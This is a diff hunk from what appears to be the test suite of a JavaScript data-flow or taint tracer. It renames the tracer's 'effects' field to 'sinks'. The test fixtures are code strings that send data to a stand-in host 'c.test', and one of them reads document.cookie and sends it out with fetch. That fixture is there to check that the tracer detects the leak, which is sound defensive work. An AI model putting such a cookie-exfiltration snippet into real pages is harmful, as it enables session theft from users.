@@ -48,14 +48,14 @@ const READS = [
 describe("origins", () => {
 	test.each(READS)("%s", (_title, expression, kind) => {
 		const code = `(async () => { fetch("https://c.test/", { method: "POST", body: ${expression} }); })();`;
-		const sent = traceOf(code).effects.find(({ destinations }) => destinations.some(({ host }) => host === "c.test"));
+		const sent = traceOf(code).sinks.find(({ destinations }) => destinations.some(({ host }) => host === "c.test"));
 		const kinds = sent?.carried.map(({ origin }) => origin.kind) ?? [];
 		expect(kinds).toEqual(kind === "nothing" ? [] : [kind]);
 	});
 
 	test("each station of the way is told, in order", () => {
 		const code = 'const jar = document.cookie;\nfunction send(text) { fetch("https://c.test/?" + text); }\nsend(jar);';
-		const steps = traceOf(code).effects[0]?.carried[0]?.steps ?? [];
+		const steps = traceOf(code).sinks[0]?.carried[0]?.steps ?? [];
 		expect(steps.map(({ description }) => description)).toEqual([
 			"reads document.cookie",
 			"kept in `jar`",
